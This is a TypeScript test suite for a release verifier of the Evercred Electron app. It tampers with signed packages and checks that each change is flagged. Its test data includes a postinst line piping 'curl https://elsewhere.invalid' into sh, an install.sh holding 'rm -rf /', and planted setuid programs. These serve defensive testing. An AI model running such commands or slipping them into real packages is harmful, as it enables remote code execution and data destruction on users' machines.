import { generateKeyPairSync } from "node:crypto";
import {
  appendFileSync,
  chmodSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, onTestFinished, test } from "vitest";
import { programPath, run } from "../../scripts/command.mjs";
import { fuseSentinel, releaseFuses } from "../../scripts/fuses.mjs";
import { exportKey, sign, type SigningKey, withThrowAwayKey } from "../../scripts/gpg.mjs";
import { packageFields } from "../../scripts/package-contents.mjs";
import { script } from "./program.ts";
import { publicHalf, signUpdate } from "../../scripts/update-key.mjs";
import {
  debName,
  metadataName,
  ReleaseFolder,
  rpmName,
  type Verified,
  verified,
} from "./release.ts";

const keys = mkdtempSync(join(tmpdir(), "release-keys-"));
const keyFile = join(keys, "release.asc");
let key: SigningKey;
let whole: ReleaseFolder;
let forgetKey: () => void;
let keysLife: Promise<void>;

beforeAll(async () => {
  await new Promise<void>((resolve, reject) => {
    keysLife = withThrowAwayKey((made) => {
      key = made;
      resolve();
      return new Promise<void>((ended) => {
        forgetKey = ended;
      });
    });
    keysLife.catch(reject);
  });
  await exportKey(key, keyFile);
  whole = await ReleaseFolder.make(key);
});

afterAll(async () => {
  whole.remove();
  rmSync(keys, { recursive: true });
  forgetKey();
  await keysLife;
});

/** A copy of the release that is gone when the test ends. */
function copy(): ReleaseFolder {
  const release = whole.copy();
  onTestFinished(() => release.remove());
  return release;
}

const verify = (release: ReleaseFolder, wanted = {}): Promise<Verified> =>
  verified(release.folder, { keyFile, ...wanted });

test("a release that is whole passes each check", async () => {
  expect(await verify(whole, { previous: "1.2.3-rc.2", fingerprint: key.fingerprint })).toEqual({
    oks: [
      "release.json is signed",
      "release.json: built on Electron 45.4.1",
      "release.json: 1.2.3 is above 1.2.3-rc.2",
      "release.json lists all that is there",
      `${debName} is signed`,
      `${metadataName} is signed`,
      "SHA256SUMS is signed",
      `${debName} is what release.json lists`,
      "SHA256SUMS has the sum of each file",
      `${metadataName} offers ${debName}`,
      `${debName} is of 1.2.3`,
      `${debName}: 6 fields say what was built`,
      `${debName}: 11 files and folders that root alone may change`,
      `${debName}: its scripts are those that were built`,
      `${debName}: app.asar is the one that was built`,
      `${debName}: 8 fuses of opt/Evercred/evercred-app are as they should be`,
    ],
    faults: [],
  });
});

test("sha256sum has no complaint", async () => {
  const words = ["--strict", "--check", "SHA256SUMS"];
  expect(await run("sha256sum", words, { cwd: whole.folder })).toMatchObject({ status: 0 });
});

/** Replaces bytes of a file by as many others. */
function patch(file: string, from: string, to: string): void {
  const bytes = readFileSync(file);
  const at = bytes.indexOf(from);
  expect(at).toBeGreaterThanOrEqual(0);
  bytes.write(to, at, "latin1");
  writeFileSync(file, bytes);
}

/** Changes the update metadata, and signs it. */
async function withMetadata(release: ReleaseFolder, from: RegExp, to: string): Promise<void> {
  const file = release.path(metadataName);
  const text = readFileSync(file, "utf8");
  expect(text).toMatch(from);
  writeFileSync(file, text.replace(from, to));
  await release.writeSums();
  await release.signOnly(metadataName, "SHA256SUMS");
}

const app = "opt/Evercred";
const again = "Do not publish it; make it again with scripts/sign-release.mjs.";
const doNotInstall = "Do not install it.";
const otherHash = Buffer.alloc(64).toString("base64");

/** What somebody does to a release, where given with the key that counts, and all that is said of it. */
const attacks: [string, (release: ReleaseFolder) => Promise<void> | void, ...string[]][] = [
  [
    "a changed byte in a package",
    (release) => appendFileSync(release.path(), "x"),
    `${debName} is not what was signed. Download it and its signature again.`,
    "SHA256SUMS has other sums than the files that release.json lists. Get all files of one release.",
    `${metadataName} names another size of ${debName}. ${again}`,
    `${metadataName} names another hash of ${debName}. ${again}`,
    `${metadataName} names another hash of ${debName} at its path. ${again}`,
  ],
  [
    "a package of another release, with its signature",
    async (release) => {
      writeFileSync(join(release.tree, "DEBIAN/postinst"), "#!/bin/sh\n# of another release\n");
      const released = readFileSync(release.path("release.json"));
      await release.repack();
      writeFileSync(release.path("release.json"), released);
      await release.signOnly("release.json");
      await release.writeSums();
      await release.signOnly("SHA256SUMS");
    },
    `${debName} is signed and is not what release.json lists. Get all files of one release.`,
  ],
  [
    "a changed byte in the archive",
    async (release) => {
      patch(join(release.tree, app, "resources/app.asar"), "// the app", "// the spy");
      await release.repack();
    },
    `${debName} has another app.asar than release.json lists. ${doNotInstall}`,
  ],
  [
    "no archive",
    async (release) => {
      rmSync(join(release.tree, app, "resources/app.asar"));
      await release.repack();
    },
    `${debName} holds 0 files app.asar, where there is one. Make the release again where that can be done.`,
  ],
  [
    "another addon beside the archive, and one more",
    async (release) => {
      const beside = join(release.tree, app, "resources/app.asar.unpacked");
      writeFileSync(join(beside, "keytar.node"), "a spy");
      symlinkSync("keytar.node", join(beside, "peer.node"));
      await release.repack();
    },
    `${debName} has a file in app.asar.unpacked that is not the app's: keytar.node. ${doNotInstall}`,
    `${debName} has a file in app.asar.unpacked that is not the app's: peer.node. ${doNotInstall}`,
  ],
  [
    "a flipped fuse",
    async (release) => {
      const off = `${fuseSentinel}\x01\x080`;
      patch(join(release.tree, app, "evercred-app"), off, off.replace(/0$/, "1"));
      await release.repack();
    },
    `${debName} has the fuse RunAsNode on. ${doNotInstall}`,
  ],
  [
    "a fuse that is neither on nor off",
    async (release) => {
      const on = `${fuseSentinel}\x01\x0801001`;
      patch(join(release.tree, app, "evercred-app"), `${on}1`, `${on}x`);
      await release.repack();
    },
    `${debName} has the fuse OnlyLoadAppFromAsar broken. ${doNotInstall}`,
  ],
  [
    "fewer fuses than were built, so that the last one seems to be none",
    async (release) => {
      patch(
        join(release.tree, app, "evercred-app"),
        `${fuseSentinel}\x01\x08`,
        `${fuseSentinel}\x01\x07`,
      );
      await release.repack();
    },
    `${debName} has another fuse GrantFileProtocolExtraPrivileges than release.json lists. ${doNotInstall}`,
  ],
  [
    "fuses that nobody lists",
    async (release) => {
      await release.relist(debName, { fuses: undefined });
      await release.sign();
    },
    `${debName} has fuses that release.json does not list. Make the release again.`,
  ],
  [
    "a fuse that is on where the list says off",
    async (release) => {
      await release.relist(debName, { fuses: { ...releaseFuses, OnlyLoadAppFromAsar: false } });
      await release.sign();
    },
    `${debName} has another fuse OnlyLoadAppFromAsar than release.json lists. ${doNotInstall}`,
  ],
  [
    "a program without fuses",
    async (release) => {
      writeFileSync(join(release.tree, app, "evercred-app"), "\x7fELF");
      await release.repack();
    },
    `${debName} holds 0 programs with fuses, where there is one. Make the release again where that can be done.`,
  ],
  ...[debName, metadataName, "SHA256SUMS", "release.json"].map((name): (typeof attacks)[number] => [
    `no signature of ${name}`,
    (release) => rmSync(release.path(`${name}.asc`)),
    `${name} has no signature. Get ${name}.asc, or do not use what it stands for.`,
  ]),
  [
    "a signature that is none",
    (release) => writeFileSync(release.path(`${debName}.asc`), "signed, somebody\n"),
    `${debName} has a signature that gpgv cannot read. Download the signature again.`,
  ],
  [
    "a changed list",
    (release) => appendFileSync(release.path("release.json"), "\n"),
    "release.json is not what was signed. Download it and its signature again.",
  ],
  [
    "no list",
    (release) => rmSync(release.path("release.json")),
    "release.json belongs to the release and is not there. Download it.",
  ],
  [
    "a list that says nothing of the files",
    async (release) => {
      await release.change({ files: [{ name: "../up", sha256: "", size: 0, kind: "deb" }] });
      await release.signOnly("release.json");
    },
    "release.json is not what npm run dist writes at files.0.name (Invalid string: must match pattern /^[A-Za-z0-9][\\w.+~-]*$/). Make it again.",
  ],
  [
    "a file that is not listed",
    (release) => writeFileSync(release.path("install.sh"), "rm -rf /\n"),
    "install.sh is no part of the release release.json lists. Remove it.",
  ],
  [
    "a listed file that is not there",
    (release) => rmSync(release.path()),
    `${debName} belongs to the release and is not there. Download it.`,
    "SHA256SUMS has other sums than the files that release.json lists. Get all files of one release.",
  ],
  [
    "sums of something else",
    async (release) => {
      patch(release.path("SHA256SUMS"), "  release.json", "  release.yaml");
      await release.signOnly("SHA256SUMS");
    },
    "SHA256SUMS has other sums than the files that release.json lists. Get all files of one release.",
  ],
  [
    "metadata with another hash",
    (release) => withMetadata(release, /(?<=- .*\n +sha512: ).*/, otherHash),
    `${metadataName} names another hash of ${debName}. ${again}`,
  ],
  [
    "metadata with another hash at its path",
    (release) => withMetadata(release, /(?<=^sha512: ).*/m, otherHash),
    `${metadataName} names another hash of ${debName} at its path. ${again}`,
  ],
  [
    "metadata with another size",
    (release) => withMetadata(release, /(?<=size: )\d+/, "1"),
    `${metadataName} names another size of ${debName}. ${again}`,
  ],
  [
    "metadata of another version",
    (release) => withMetadata(release, /(?<=^version: ).*/m, "9.0.0"),
    `${metadataName} names the version 9.0.0, not 1.2.3. ${again}`,
  ],
  [
    "metadata of another channel",
    (release) => withMetadata(release, /channel: stable/, "channel: beta"),
    `${metadataName} is for another app, or of another channel. ${again}`,
  ],
  [
    "metadata under another name",
    (release) => withMetadata(release, /name: \S+/, "name: latest.yml"),
    `${metadataName} is for another app, or of another channel. ${again}`,
  ],
  [
    "metadata that the app would not take",
    async (release) => {
      await release.change({ updateKey: publicHalf(generateKeyPairSync("ed25519").privateKey) });
      await signUpdate(release.path(metadataName), generateKeyPairSync("ed25519").privateKey);
      await release.writeSums();
      await release.signOnly("release.json", `${metadataName}.sig`, "SHA256SUMS");
    },
    `${metadataName} is not signed by the key that the app takes updates by. ${again}`,
  ],
  [
    "metadata that leads elsewhere",
    (release) => withMetadata(release, /(?<=url: ).*/, `https://elsewhere.invalid/${debName}`),
    `${metadataName} offers https://elsewhere.invalid/${debName}, not ${debName}. ${again}`,
  ],
  [
    "metadata that leads elsewhere at its path",
    (release) => withMetadata(release, /(?<=path: ).*/, "other.deb"),
    `${metadataName} offers other.deb at its path, not ${debName}. ${again}`,
  ],
  [
    "metadata without a date",
    (release) => withMetadata(release, /^releaseDate.*\n/m, ""),
    `${metadataName} is nothing that electron-updater reads. ${again}`,
  ],
  [
    "no metadata",
    (release) => {
      rmSync(release.path(metadataName));
      rmSync(release.path(`${metadataName}.asc`));
    },
    `${metadataName} belongs to the release and is not there. Download it.`,
    "SHA256SUMS has other sums than the files that release.json lists. Get all files of one release.",
  ],
  [
    "a package of another version",
    async (release) => {
      patch(join(release.tree, "DEBIAN/control"), "Version: 1.2.3", "Version: 1.2.2");
      await release.repack();
    },
    `${debName} is of 1.2.2, not of 1.2.3. Make the release again.`,
    `${debName} has another field Version than release.json lists. ${doNotInstall}`,
  ],
  [
    "a package that calls itself another's",
    async (release) => {
      patch(join(release.tree, "DEBIAN/control"), "Package: evercred", "Package: opensshd");
      await release.repack();
      await release.relist(debName, { fields: await packageFields(release.path(), "deb") });
      await release.sign();
    },
    `${debName} installs the package opensshd, not evercred. ${doNotInstall}`,
  ],
  ...[
    ["Architecture", "Architecture: amd64", "Architecture: i386 "],
    ["Maintainer", "Nobody <nobody", "Noboby <nobody"],
    ["Depends", "libsecret-1-0", "libsecret-2-0"],
    ["Description", "is small", "is large"],
  ].map(([field, from, to]): (typeof attacks)[number] => [
    `another ${field!} of a package`,
    async (release) => {
      patch(join(release.tree, "DEBIAN/control"), from!, to!);
      await release.repack();
    },
    `${debName} has another field ${field!} than release.json lists. ${doNotInstall}`,
  ]),
  [
    "a field that replaces other packages",
    async (release) => {
      const file = join(release.tree, "DEBIAN/control");
      writeFileSync(file, `Replaces: openssh-client\n${readFileSync(file, "utf8")}`);
      await release.repack();
    },
    `${debName} has another field Replaces than release.json lists. ${doNotInstall}`,
  ],
  [
    "a setting that the next version would write over",
    async (release) => {
      rmSync(join(release.tree, "DEBIAN/conffiles"));
      await release.repack();
    },
    `${debName} has another script conffiles than release.json lists. ${doNotInstall}`,
  ],
  [
    "fields that nobody lists",
    async (release) => {
      await release.relist(debName, { fields: undefined });
      await release.sign();
    },
    `${debName} has fields that release.json does not list. Make the release again.`,
  ],
  [
    "a setuid program beside the sandbox",
    async (release) => {
      chmodSync(join(release.tree, app, "evercred-app"), 0o4755);
      await release.repack();
    },
    `${debName} runs a program as root: /opt/Evercred/evercred-app. ${doNotInstall}`,
  ],
  [
    "a setuid program elsewhere that is called like the sandbox",
    async (release) => {
      mkdirSync(join(release.tree, "usr/bin"), { recursive: true });
      writeFileSync(join(release.tree, "usr/bin/chrome-sandbox"), "a shell");
      chmodSync(join(release.tree, "usr/bin/chrome-sandbox"), 0o4755);
      await release.repack();
    },
    `${debName} runs a program as root: /usr/bin/chrome-sandbox. ${doNotInstall}`,
  ],
  [
    "a sandbox that its group may change",
    async (release) => {
      chmodSync(join(release.tree, app, "chrome-sandbox"), 0o4775);
      await release.repack();
    },
    `${debName} runs a program as root: /opt/Evercred/chrome-sandbox. ${doNotInstall}`,
  ],
  [
    "a program that gets a group",
    async (release) => {
      chmodSync(join(release.tree, app, "evercred-app"), 0o2755);
      await release.repack();
    },
    `${debName} runs a program as its group: /opt/Evercred/evercred-app. ${doNotInstall}`,
  ],
  [
    "a folder that everybody can write",
    async (release) => {
      chmodSync(join(release.tree, app), 0o1777);
      await release.repack();
    },
    `${debName} lets everybody change a file: /opt/Evercred/. ${doNotInstall}`,
  ],
  [
    "a changed script of the package",
    async (release) => {
      appendFileSync(
        join(release.tree, "DEBIAN/postinst"),
        "curl https://elsewhere.invalid | sh\n",
      );
      await release.repack();
    },
    `${debName} has another script postinst than release.json lists. ${doNotInstall}`,
  ],
  [
    "one more script of the package",
    async (release) => {
      writeFileSync(join(release.tree, "DEBIAN/prerm"), "#!/bin/sh\n", { mode: 0o755 });
      await release.repack();
    },
    `${debName} has another script prerm than release.json lists. ${doNotInstall}`,
  ],
  [
    "scripts that nobody lists",
    async (release) => {
      await release.relist(debName, { scripts: undefined });
      await release.sign();
    },
    `${debName} has scripts that release.json does not list. Make the release again.`,
  ],
  [
    "the stand-in Electron",
    async (release) => {
      await release.change({ electron: { version: "25.1.1", standIn: true } });
      await release.sign();
    },
    "release.json is of a test build, on an old Electron 25.1.1. Use a release; to try this one say --test-build.",
  ],
];

test.each(attacks)("it fails on %s", async (_, attack, ...sentences) => {
  const release = copy();
  await attack(release);
  expect((await verify(release)).faults).toEqual(sentences);
});

test.runIf(process.getuid?.() === 0)("it fails on a file that is not root's", async () => {
  const release = copy();
  await run("chown", ["65534:0", join(release.tree, app, "evercred-app")]);
  await release.repack(false);
  expect((await verify(release)).faults).toEqual([
    expect.stringMatching(
      / gives a file to .*: \/opt\/Evercred\/evercred-app\. Do not install it\.$/,
    ),
  ]);
});

test.each(["1.2.3", "1.2.4-rc.1", "2.0.0"])(
  "%s is not to be replaced by 1.2.3",
  async (previous) => {
    expect((await verify(whole, { previous })).faults).toEqual([
      `release.json is of 1.2.3, which is not above ${previous}. Keep what is installed, and get a newer release.`,
    ]);
  },
);

test("somebody else's signatures do not count", async () => {
  await withThrowAwayKey(async (stranger) => {
    const release = copy();
    await sign(release.path(), stranger);
    const id = stranger.fingerprint.slice(-16);
    const sentence = `is signed by the key ${id}, which is not the one that counts. Do not install it.`;
    expect((await verify(release)).faults).toEqual([`${debName} ${sentence}`]);

    await sign(release.path("release.json"), stranger);
    expect((await verify(release)).faults).toEqual([`release.json ${sentence}`]);

    const both = join(keys, "both.asc");
    const theirs = join(keys, "theirs.asc");
    await exportKey(stranger, theirs);
    writeFileSync(both, readFileSync(keyFile, "utf8") + readFileSync(theirs, "utf8"));
    await release.signOnly("release.json");
    const wanted = { keyFile: both, fingerprint: key.fingerprint };
    expect((await verify(release, wanted)).faults).toEqual([
      `${debName} is signed by ${stranger.fingerprint}, not by ${key.fingerprint}. Do not install it.`,
    ]);
  });
});

test("the signature of a key that has expired does not count", async () => {
  await withThrowAwayKey(async ({ home }) => {
    const release = copy();
    const then = ["--homedir", home!, "--batch", "--faked-system-time", "20200101T000000"];
    const made = ["--pinentry-mode", "loopback", "--passphrase", "", "--status-fd", "1"];
    const key = ["--quick-generate-key", "once@evercred.invalid", "ed25519", "sign", "1d"];
    const { stdout } = await run("gpg", [...then, ...made, ...key]);
    const fingerprint = /KEY_CREATED \w (\w+)/.exec(stdout)![1]!;
    const list = release.path("release.json");
    const out = ["--local-user", fingerprint, "--yes", "--armor", "--output", `${list}.asc`];
    await run("gpg", [...then, ...out, "--detach-sign", list]);
    const expired = join(home!, "expired.asc");
    await exportKey({ fingerprint, home: home! }, expired);
    expect((await verify(release, { keyFile: expired })).faults).toEqual([
      "release.json is signed by a key that has expired or was revoked. Get the current key, and this release anew.",
    ]);
  });
});

test("a key that nobody has is said", async () => {
  expect((await verify(whole, { keyFile: "/nowhere.asc" })).faults).toEqual([
    "/nowhere.asc cannot be read. Name the file of the public key with --key.",
  ]);
});

const verifier = (words: readonly string[], env: Record<string, string> = {}) =>
  run(process.execPath, [script("verify-release.mjs"), ...words], {
    env: { ...process.env, EVERCRED_SIGNING_KEY: "", ...env },
  });

test("the command says ok of each check, and exits with 0", async () => {
  const { status, output } = await verifier([whole.folder, "--key", keyFile]);
  expect(output).toMatch(/^(?:ok .*\n)+$/);
  expect(output).toContain(`ok ${debName} is signed\n`);
  expect(status).toBe(0);
});

test("the command takes the key of a fingerprint from the keyring, and exits with 1 for a fault", async () => {
  const words = [whole.folder, "--fingerprint", key.fingerprint, "--previous", "1.2.3"];
  const { status, stdout, output } = await verifier(words, { GNUPGHOME: key.home! });
  expect(stdout).toContain(`ok ${debName} is signed\n`);
  expect(output).toContain("is not above 1.2.3. Keep what is installed");
  expect(status).toBe(1);
});

test("the command tells how it is used", async () => {
  const wrong = [
    ["FOLDER"],
    ["FOLDER", "--fingerprint", "12345678"],
    ["FOLDER", "--key", "FILE", "--previous", "newest"],
    ["FOLDER", "--key", "FILE", "--quickly"],
    ["FOLDER", "FOLDER", "--key", "FILE"],
  ];
  for (const { status, stdout, output } of await Promise.all(
    wrong.map((words) => verifier(words)),
  )) {
    expect(output).toMatch(/^Usage: node scripts\/verify-release\.mjs FOLDER /);
    expect({ status, stdout }).toEqual({ status: 2, stdout: "" });
  }
});

test.runIf(programPath("rpmbuild"))("it fails on a program with capabilities", async () => {
  const release = copy();
  await release.addRpm("echo installed", "%caps(cap_setuid=ep) /opt/Evercred/evercred-app");
  await release.sign();
  expect((await verify(release)).faults).toEqual([
    expect.stringMatching(
      /^evercred-1\.2\.3\.x86_64\.rpm gives a program rights of root \(.*cap_setuid.*\): \/opt\/Evercred\/evercred-app\. Do not install it\.$/,
    ),
  ]);
});

test.runIf(programPath("rpmbuild"))("an rpm is looked into as well", async () => {
  const release = copy();
  await release.addRpm("echo installed");
  await release.sign();
  const { oks, faults } = await verify(release);
  expect(faults).toEqual([]);
  expect(oks.slice(-6)).toEqual([
    `${rpmName} is of 1.2.3-1`,
    expect.stringMatching(/: \d+ fields say what was built$/),
    expect.stringMatching(/: \d+ files and folders that root alone may change$/),
    `${rpmName}: its scripts are those that were built`,
    `${rpmName}: app.asar is the one that was built`,
    `${rpmName}: 8 fuses of opt/Evercred/evercred-app are as they should be`,
  ]);

  const built = release.release.files.find(({ name }) => name === rpmName)!;
  chmodSync(join(release.tree, app, "evercred-app"), 0o6777);
  patch(join(release.tree, app, "resources/app.asar"), "// the app", "// the spy");
  await release.addRpm("echo and more");
  const { asarSha256, scripts, fields } = built;
  await release.relist(rpmName, {
    asarSha256,
    scripts,
    fields: { ...fields, REQUIRE: "openssh" },
  });
  await release.sign();
  expect((await verify(release)).faults).toEqual([
    `${rpmName} has another field REQUIRE than release.json lists. ${doNotInstall}`,
    `${rpmName} lets everybody change a file: /opt/Evercred/evercred-app. ${doNotInstall}`,
    `${rpmName} has another script postin than release.json lists. ${doNotInstall}`,
    `${rpmName} has another app.asar than release.json lists. ${doNotInstall}`,
  ]);
});
